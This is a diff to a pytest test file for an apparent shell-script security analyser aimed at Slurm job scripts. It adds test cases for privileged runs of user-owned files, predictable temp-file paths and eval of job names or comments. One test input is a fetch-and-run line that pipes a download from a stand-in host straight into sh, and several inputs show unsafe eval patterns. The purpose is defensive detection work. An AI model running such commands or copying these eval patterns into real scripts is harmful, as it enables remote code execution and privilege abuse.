@@ -5,15 +5,16 @@ from __future__ import annotations
 import pytest
 from msgspec import UNSET
 
-from holdfast.collect.shell import Conduct, conduct, interpreter
+from holdfast.collect.shell import conduct, interpreter
 from holdfast.core.asset import Spot
 from holdfast.formats.shell import expansions
 from holdfast.kinds.script import Script
 
 
-def of(text: str) -> tuple[Conduct, dict[str, Spot]]:
+def of(text: str) -> tuple[tuple[Script, frozenset[str] | None], dict[str, Spot]]:
     spots: dict[str, Spot] = {}
-    return conduct(Script(), text, spots), spots
+    found = conduct(Script(), text, spots)
+    return (found.facts, found.commands), spots
 
 
 def names(uses) -> list[str]:
@@ -67,6 +68,71 @@ def test_files_of_the_owner_that_are_read_as_code(line, sourced):
     (facts, commands), _ = of(line + "\n")
     assert names(facts.sourced) == sourced
     assert commands is None
+
+
+@pytest.mark.parametrize(
+    ("line", "found"),
+    [
+        ("/home/a/bin/x", ["/home/a/bin/x"]),
+        ("python3 -u /scratch/c.py /tmp/y", ["/scratch/c.py"]),
+        ("bash /tmp/x.sh", ["/tmp/x.sh"]),
+        ("sudo -u root bash /tmp/x.sh", ["/tmp/x.sh"]),
+        ("su -c /home/a/x", ["/home/a/x"]),
+        ("python3 -m x /tmp/y", []),
+        ("sudo -u bob /home/bob/x", []),
+        ("sudo --user=bob /home/bob/x", []),
+        ("sudo -ubob /home/bob/x", []),
+        ("su - $SLURM_JOB_USER -c '/home/b/x; /tmp/y'", []),
+        ("su -s /bin/sh -c '/home/b/x' bob", []),
+        ("runuser -u bob -- /home/bob/x", []),
+        ("gosu bob /tmp/x", []),
+        ("/usr/bin/x /home/a", []),
+    ],
+)
+def test_files_of_users_that_are_run(line, found):
+    (facts, _), _ = of(line + "\n")
+    assert names(facts.sourced) == found
+
+
+def test_downloads_that_are_run():
+    (facts, _), spots = of("true\ncurl http://x.example/y | sh\n")
+    assert names(facts.downloaded) == ["sh"]
+    assert spots["downloaded[0]"].line == 2
+
+
+@pytest.mark.parametrize(
+    ("line", "found"),
+    [
+        ("echo > /tmp/a.$SLURM_JOB_ID", ["/tmp/a.$SLURM_JOB_ID"]),
+        ("L=/var/tmp/l\nexec >> $L 2>&1", ["/var/tmp/l"]),
+        (">/tmp/a echo", ["/tmp/a"]),
+        ("ls | tee -a /dev/shm/x", ["/dev/shm/x"]),
+        ("cat < /tmp/x", []),
+        ("T=$(mktemp /tmp/x.XXXX)\necho > $T", []),
+        ("echo > /tmp/$RANDOM", []),
+        ("echo > /var/log/x", []),
+    ],
+)
+def test_files_that_others_can_foresee(line, found):
+    (facts, _), _ = of(line + "\n")
+    assert names(facts.foreseen) == found
+
+
+@pytest.mark.parametrize(
+    ("text", "found"),
+    [
+        ("x=`scontrol show job $SLURM_JOB_ID | grep Comment`; eval $x", ["x"]),
+        ("eval $(scontrol show job -o $SLURM_JOB_ID)", ["scontrol"]),
+        ("f() { eval $1; }\nf $SLURM_JOB_NAME", ["$1"]),
+        ("x=$(squeue -h -j 1 -o %u); eval $x", []),
+        ("x=$(squeue -h -j 1 -o %j); eval $x", ["x"]),
+        ("x=$(scontrol show hostnames $SLURM_JOB_NODELIST); eval $x", []),
+        ("x=$(scontrol show job 1 | grep -o NumNodes=.); eval $x", []),
+    ],
+)
+def test_what_slurm_tells_of_a_job(text, found):
+    (facts, _), _ = of(text + "\n")
+    assert names(facts.evaluated) == found
 
 
 def test_commands_without_a_search_path():
